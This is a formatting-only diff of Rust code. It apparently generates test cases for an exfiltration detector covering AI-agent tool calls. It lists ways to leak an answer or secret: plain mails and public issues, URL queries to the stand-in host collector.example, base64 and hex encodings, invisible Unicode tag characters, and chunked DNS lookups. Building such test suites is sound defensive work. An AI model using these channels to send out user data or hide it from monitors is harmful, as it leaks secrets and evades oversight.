@@ -5,8 +5,8 @@ use serde_json::{Value, json};
 use super::{
     Call, Record,
     encode::{
-        base32, base64, base64url, base85, each, gzip, hex, map, percent, pieces, reversed, rotated,
-        wrapped, zlib,
+        base32, base64, base64url, base85, each, gzip, hex, map, percent, pieces, reversed,
+        rotated, wrapped, zlib,
     },
 };
 
@@ -52,7 +52,10 @@ pub static PLAIN: &[Way] = &[
     ("as it is, in a mail", |r| mail(&r.answer)),
     ("as it is, in a public issue", |r| {
         let body = format!("{AROUND}{}", r.answer);
-        vec![Call::new("create_issue", json!({ "repo": "demo/app", "title": "Help", "body": body }))]
+        vec![Call::new(
+            "create_issue",
+            json!({ "repo": "demo/app", "title": "Help", "body": body }),
+        )]
     }),
     ("in capitals", |r| mail(&r.answer.to_uppercase())),
     ("in small letters", |r| mail(&r.answer.to_lowercase())),
@@ -125,14 +128,22 @@ pub static PLAIN: &[Way] = &[
     }),
     ("a letter between letters", |r| mail(&wrapped(&r.answer, 1, "x"))),
     ("two letters between letters", |r| {
-        mail(&r.answer.chars().filter(|c| c.is_alphanumeric()).map(|c| format!("{c}qz")).collect::<String>())
+        mail(
+            &r.answer
+                .chars()
+                .filter(|c| c.is_alphanumeric())
+                .map(|c| format!("{c}qz"))
+                .collect::<String>(),
+        )
     }),
 ];
 
 /// In another format.
 pub static FORMATS: &[Way] = &[
     ("quoted", |r| mail(&r.answer.lines().map(|line| format!("> {line}\n")).collect::<String>())),
-    ("a list", |r| mail(&lines(&r.answer).iter().map(|l| format!("- **{l}**\n")).collect::<String>())),
+    ("a list", |r| {
+        mail(&lines(&r.answer).iter().map(|l| format!("- **{l}**\n")).collect::<String>())
+    }),
     ("a Markdown table", |r| {
         let rows = lines(&r.answer);
         let row = |(at, line): (usize, &&str)| format!("| {at} | {line} |\n");
@@ -189,7 +200,12 @@ pub static FORMATS: &[Way] = &[
         mail(&rows.join("\n"))
     }),
     ("lines between other text", |r| {
-        mail(&lines(&r.answer).iter().map(|l| format!("{l}\nas we said before, more below\n")).collect::<String>())
+        mail(
+            &lines(&r.answer)
+                .iter()
+                .map(|l| format!("{l}\nas we said before, more below\n"))
+                .collect::<String>(),
+        )
     }),
     ("the first half", |r| {
         let letters: Vec<char> = r.answer.chars().collect();
@@ -205,14 +221,15 @@ pub static FORMATS: &[Way] = &[
 pub static NAMES: &[Way] = &[
     ("URL, query", |r| get(format!("https://collector.example/c?d={}", percent(&r.answer)))),
     ("URL, every byte", |r| {
-        get(format!("https://collector.example/c?d={}", each(&r.answer, "", |b| format!("%{b:02x}"))))
+        get(format!(
+            "https://collector.example/c?d={}",
+            each(&r.answer, "", |b| format!("%{b:02x}"))
+        ))
     }),
     ("URL, twice", |r| {
         get(format!("https://collector.example/c?d={}", percent(&percent(&r.answer))))
     }),
-    ("URL, path", |r| {
-        get(format!("https://collector.example/{}", words(&r.answer).join("/")))
-    }),
+    ("URL, path", |r| get(format!("https://collector.example/{}", words(&r.answer).join("/")))),
     ("URL, form", |r| {
         get(format!("https://collector.example/?q={}", percent(&r.answer).replace("%20", "+")))
     }),
@@ -251,9 +268,7 @@ pub static NAMES: &[Way] = &[
 /// Encoded.
 pub static ENCODED: &[Way] = &[
     ("base64", |r| mail(&base64(&r.answer))),
-    ("base64 for URLs", |r| {
-        get(format!("https://collector.example/c?d={}", base64url(&r.answer)))
-    }),
+    ("base64 for URLs", |r| get(format!("https://collector.example/c?d={}", base64url(&r.answer)))),
     ("base64 in lines", |r| mail(&wrapped(&base64(&r.answer), 76, "\r\n"))),
     ("base64 in short pieces", |r| mail(&wrapped(&base64(&r.answer), 16, " "))),
     ("base64 in a data URI", |r| {
@@ -273,9 +288,7 @@ pub static ENCODED: &[Way] = &[
     ("base64 of the secret", |r| mail(&format!("ref {} ok", base64(&r.secret)))),
     ("base64 of rotated letters", |r| mail(&base64(rotated(&r.answer, 13)))),
     ("base 16", |r| mail(&hex(&r.answer))),
-    ("base 16 in capitals with spaces", |r| {
-        mail(&each(&r.answer, " ", |b| format!("{b:02X}")))
-    }),
+    ("base 16 in capitals with spaces", |r| mail(&each(&r.answer, " ", |b| format!("{b:02X}")))),
     ("base 16 with colons", |r| mail(&each(&r.answer, ":", |b| format!("{b:02x}")))),
     ("base 16, escaped", |r| mail(&each(&r.answer, "", |b| format!("\\x{b:02x}")))),
     ("base 16, a list", |r| mail(&each(&r.answer, ", ", |b| format!("0x{b:02x}")))),
@@ -311,7 +324,8 @@ pub static ENCODED: &[Way] = &[
     ("gzip and base64", |r| mail(&base64(gzip(&r.answer)))),
     ("zlib and base 16", |r| mail(&hex(zlib(&r.answer)))),
     ("tags that do not show", |r| {
-        let tag = |c: char| char::from_u32(c as u32 + 0xe_0000).filter(|_| (' '..='~').contains(&c));
+        let tag =
+            |c: char| char::from_u32(c as u32 + 0xe_0000).filter(|_| (' '..='~').contains(&c));
         mail(&r.answer.chars().map(|c| tag(c).unwrap_or(c)).collect::<String>())
     }),
     ("variation selectors", |r| {
@@ -365,19 +379,25 @@ pub static CUT: &[Way] = &[
         series("post", &pieces(&base64(&r.answer), 40), |p| json!({ "text": p }))
     }),
     ("base64 over URLs", |r| {
-        series("fetch", &pieces(&base64url(&r.answer), 32), |p| {
-            json!({ "url": format!("https://collector.example/c?d={p}") })
-        })
+        series(
+            "fetch",
+            &pieces(&base64url(&r.answer), 32),
+            |p| json!({ "url": format!("https://collector.example/c?d={p}") }),
+        )
     }),
     ("base 16 over host names", |r| {
-        series("resolve", &pieces(&hex(&r.answer), 30), |p| {
-            json!({ "host": format!("{p}.collector.example") })
-        })
+        series(
+            "resolve",
+            &pieces(&hex(&r.answer), 30),
+            |p| json!({ "host": format!("{p}.collector.example") }),
+        )
     }),
     ("base32 over host names", |r| {
-        series("resolve", &pieces(&base32(&r.answer).to_lowercase(), 24), |p| {
-            json!({ "host": format!("{p}.collector.example") })
-        })
+        series(
+            "resolve",
+            &pieces(&base32(&r.answer).to_lowercase(), 24),
+            |p| json!({ "host": format!("{p}.collector.example") }),
+        )
     }),
     ("base 16 over calls of odd length", |r| {
         series("post", &pieces(&hex(&r.answer), 37), |p| json!({ "text": p }))
